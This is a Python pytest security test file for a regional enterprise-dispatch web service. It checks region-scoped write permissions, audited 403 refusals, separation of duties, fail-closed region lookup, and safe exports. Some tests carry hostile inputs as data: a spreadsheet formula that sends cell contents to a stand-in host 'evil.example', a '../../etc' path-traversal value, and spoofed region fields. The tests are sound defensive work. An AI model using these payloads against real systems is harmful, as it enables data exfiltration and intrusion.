"""H2 and H3: write scope comes from the server's records; refusals are 403 and audited; separation of
duties; a fault in region resolution fails closed.

Enterprise A is registered in 广州天河 (440106), B in 南京玄武 (320102). A 广州 officer plays the
finding's 深圳 officer, B the 北京 enterprise.
"""

from __future__ import annotations

import datetime as dt

import pytest

from tests.security.conftest import audit_rows, bearer
from tests.web.fixtures import USCC_A, USCC_B

WL = {"category": "supply_chain", "reason": "链主企业关键配套", "valid_from": "2022-01-01", "valid_to": "2022-12-31"}


def test_h2_officer_cannot_reregister_another_regions_key_enterprise(app, client, tokens):
    js, gz = bearer(tokens["js_officer"]), bearer(tokens["gz_officer"])
    r = client.post("/api/dispatch/key-enterprises", json={"uscc": USCC_B, "frequency": "周"}, headers=js)
    assert r.status_code == 201 and r.json()["region"] == "320102" and r.json()["name"] == "南京玄武电子有限公司"
    # 广州 re-registers 南京's enterprise under a 广州 code: the registry's region (320102) decides → 403
    r = client.post("/api/dispatch/key-enterprises", json={"uscc": USCC_B, "name": "冒名企业", "region": "440106",
                                                           "frequency": "周"}, headers=gz)
    assert r.status_code == 403, r.text
    listed = client.get("/api/dispatch/key-enterprises", headers=js).json()
    assert [(k["uscc"], k["region"], k["name"]) for k in listed] == [(USCC_B, "320102", "南京玄武电子有限公司")]
    denied = [e for e in audit_rows(app, "denied") if e.username == "gz_officer"]
    assert denied and USCC_B in denied[0].target and "403" in denied[0].detail


def test_h3_appeal_and_whitelist_take_region_and_name_from_the_registry(app, client, tokens):
    gz = bearer(tokens["gz_officer"])
    # claiming a 广州 region (and a name) for 南京's enterprise does not work: the fields are not read
    for url, payload in (("/api/dispatch/appeals", {"appeal_type": "缺芯", "description": "芯片断供",
                                                    "uscc": USCC_B, "region": "440106", "enterprise_name": "假名"}),
                         ("/api/dispatch/whitelist", {**WL, "uscc": USCC_B, "region": "440106",
                                                      "enterprise_name": "假名"})):
        r = client.post(url, json=payload, headers=gz)
        assert r.status_code == 403, r.text
    assert client.get("/api/dispatch/appeals", headers=bearer(tokens["admin"])).json() == []
    assert client.get("/api/dispatch/whitelist", headers=bearer(tokens["admin"])).json() == []
    assert len([e for e in audit_rows(app, "denied") if e.username == "gz_officer"]) == 2
    # for its own enterprise the officer may file; name and region are the registered ones
    r = client.post("/api/dispatch/appeals", json={"appeal_type": "缺芯", "description": "芯片断供", "uscc": USCC_A,
                                                   "enterprise_name": "假名", "region": "440300"}, headers=gz)
    assert r.status_code == 201 and (r.json()["region"], r.json()["enterprise_name"]) == ("440106", "广州天河精密制造有限公司")
    assert [e.action for e in audit_rows(app, "appeal_file")] == ["appeal_file"]


def test_h3_applicant_cannot_review_or_publish_and_reviewer_cannot_publish(app, client, tokens):
    gz, gd, admin = bearer(tokens["gz_officer"]), bearer(tokens["gd_officer"]), bearer(tokens["admin"])
    e = client.post("/api/dispatch/whitelist", json={**WL, "uscc": USCC_A}, headers=gz).json()
    assert client.post(f"/api/dispatch/whitelist/{e['id']}/review", json={"approve": True}, headers=gz).status_code == 403
    assert client.post(f"/api/dispatch/whitelist/{e['id']}/review", json={"approve": True}, headers=gd).status_code == 200
    assert client.post(f"/api/dispatch/whitelist/{e['id']}/publish", headers=gz).status_code == 403  # applicant
    assert client.post(f"/api/dispatch/whitelist/{e['id']}/publish", headers=gd).status_code == 403  # reviewer
    r = client.post(f"/api/dispatch/whitelist/{e['id']}/publish", headers=admin)
    assert r.status_code == 200 and (r.json()["applied_by"], r.json()["reviewed_by"], r.json()["published_by"]) == \
        ("gz_officer", "gd_officer", "admin")
    assert {a.action for a in audit_rows(app)} >= {"whitelist_apply", "whitelist_review", "whitelist_publish", "denied"}
    # the 南京 officer cannot see or act on it at all
    assert client.post(f"/api/dispatch/whitelist/{e['id']}/review", json={"approve": True},
                       headers=bearer(tokens["js_officer"])).status_code == 404


def test_duplicates_are_409(app, client, tokens):
    ent = bearer(tokens["ent_a"])
    a = {"appeal_type": "缺柜", "description": "出口集装箱 缺柜"}
    assert client.post("/api/dispatch/appeals", json=a, headers=ent).status_code == 201
    r = client.post("/api/dispatch/appeals", json={**a, "description": "出口集装箱缺柜"}, headers=ent)  # same text
    assert r.status_code == 409 and "请勿重复提交" in r.json()["detail"]
    assert client.post("/api/dispatch/whitelist", json=WL, headers=ent).status_code == 201
    assert client.post("/api/dispatch/whitelist", json=WL, headers=ent).status_code == 409


def test_unique_indexes_refuse_a_racing_duplicate(session_factory=None):
    """Two requests that both pass the service's check: the database index refuses the second."""
    from sqlalchemy import create_engine
    from sqlalchemy.exc import IntegrityError
    from sqlalchemy.orm import Session

    from yacang.appdb.base import create_all
    from yacang.dispatch.models import Appeal, WhitelistCategory, WhitelistEntry

    engine = create_engine("sqlite://")
    create_all(engine)
    now = dt.datetime(2022, 3, 1)
    with Session(engine) as s:
        s.add(WhitelistCategory(id=1, code="supply_chain", name="重点产业链供应链企业", builtin=True))
        for _ in range(2):
            s.add(WhitelistEntry(category_id=1, uscc=USCC_A, region="440106", status="applied", valid_from=now.date(),
                                 valid_to=now.date(), applied_at=now))
        with pytest.raises(IntegrityError):
            s.flush()
        s.rollback()
        for i in range(2):
            s.add(Appeal(code=f"SQ{i}", uscc=USCC_A, region="440106", appeal_type="缺芯", status="filed",
                         filed_at=now, respond_due=now, plan_due=now, resolve_due=now, dedup_key="k"))
        with pytest.raises(IntegrityError):
            s.flush()


@pytest.mark.parametrize("where", ["registry", "enterprise_of", "region_prefix"])
def test_fault_in_region_resolution_fails_closed(app, client, tokens, monkeypatch, where):
    """An error while deciding whose region something is gives an error status, never data of another region."""
    from yacang.auth import scope as scope_mod
    from yacang.dispatch import access, registry
    from yacang.web import reports_service

    def boom(*a, **k):
        raise RuntimeError("region lookup failed")

    js = bearer(tokens["js_officer"])
    assert client.post("/api/dispatch/key-enterprises", json={"uscc": USCC_B, "frequency": "周"}, headers=js).status_code == 201
    if where == "registry":
        monkeypatch.setattr(registry, "lookup", boom)
    elif where == "enterprise_of":
        monkeypatch.setattr(reports_service, "enterprise_of", boom)
    else:
        monkeypatch.setattr(scope_mod, "region_prefix", boom)
        monkeypatch.setattr(access, "region_prefix", boom)
    from fastapi.testclient import TestClient

    with TestClient(app, raise_server_exceptions=False) as c:
        gz = bearer(tokens["gz_officer"])
        for method, url, kw in (("POST", "/api/dispatch/appeals", {"json": {"appeal_type": "缺芯", "description": "x",
                                                                              "uscc": USCC_B}}),
                                ("GET", "/api/dispatch/key-enterprises", {}),
                                ("GET", f"/api/reports/{USCC_B}", {}),
                                ("GET", "/api/reports?period=2022-03", {}),
                                ("POST", "/api/dispatch/key-enterprises", {"json": {"uscc": USCC_B, "frequency": "周"}})):
            r = c.request(method, url, headers=gz, **kw)
            assert r.status_code in (403, 404, 500) or (r.status_code == 200 and USCC_B not in r.text
                                                        and "320102" not in r.text), (where, url, r.status_code, r.text[:200])


def test_an_attachment_is_never_overwritten(app, client, tokens):
    ent, gz = bearer(tokens["ent_a"]), bearer(tokens["gz_officer"])
    code = client.post("/api/dispatch/appeals", json={"appeal_type": "物流", "description": "港口拥堵"},
                       headers=ent).json()["code"]
    first = client.post(f"/api/dispatch/appeals/{code}/attachments", files={"file": ("说明.txt", "企业原件".encode())},
                        headers=ent)
    second = client.post(f"/api/dispatch/appeals/{code}/attachments", files={"file": ("说明.txt", "改过的".encode())},
                         headers=gz)
    assert (first.json()["attachment"], second.json()["attachment"]) == ("说明.txt", "说明(2).txt")
    got = client.get(f"/api/dispatch/appeals/{code}/attachments/说明.txt", headers=ent)
    assert got.content.decode() == "企业原件"
    assert [e.action for e in audit_rows(app, "appeal_attachment")] == ["appeal_attachment"] * 2


def test_whitelist_export_writes_enterprise_text_as_text(app, client, tokens):
    import io

    from openpyxl import load_workbook

    ent = bearer(tokens["ent_a"])
    payload = {**WL, "reason": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'}
    assert client.post("/api/dispatch/whitelist", json=payload, headers=ent).status_code == 201
    r = client.get("/api/dispatch/whitelist.xlsx", headers=bearer(tokens["gz_officer"]))
    ws = load_workbook(io.BytesIO(r.content))["全部"]
    reason = ws.cell(row=2, column=5)
    assert reason.data_type == "s" and reason.value == "'" + payload["reason"]
    assert [e.action for e in audit_rows(app, "export")] == ["export"]


def test_key_enterprise_and_project_changes_are_audited(app, client, tokens):
    gz = bearer(tokens["gz_officer"])
    assert client.post("/api/dispatch/key-enterprises", json={"uscc": USCC_A, "frequency": "周"}, headers=gz).status_code == 201
    p = {"code": "GZ-001", "name": "新能源电池项目", "region": "440106", "industry": "38", "planned_investment": 50,
         "planned_start": "2022-01-01", "planned_finish": "2023-06-30"}
    assert client.post("/api/dispatch/projects", json=p, headers=gz).status_code == 201
    assert client.post("/api/dispatch/projects/GZ-001/progress", json={"period": "2022-06", "invest_cum": 5.0},
                       headers=gz).status_code == 200
    bad = client.post("/api/dispatch/projects/GZ-001/progress", json={"period": "2022-07", "invest_cum": "Infinity"},
                      headers=gz)
    assert bad.status_code == 422
    actions = [e.action for e in audit_rows(app)]
    assert {"key_register", "project_register", "project_progress"} <= set(actions)
    assert actions.count("project_progress") == 1  # the refused value changed nothing


def test_bulletin_period_is_validated_before_any_directory_is_made(app, client, tokens):
    root = app.state.yacang.output_dir / "web-bulletins"
    for period in ("../../etc", "2022-13", "2022Q1"):
        r = client.post("/api/bulletins", json={"period": period, "region": "440000", "formats": ["html"]},
                        headers=bearer(tokens["gd_officer"]))
        assert r.status_code == 422, r.text
    assert not root.exists() or not any(root.rglob("*"))
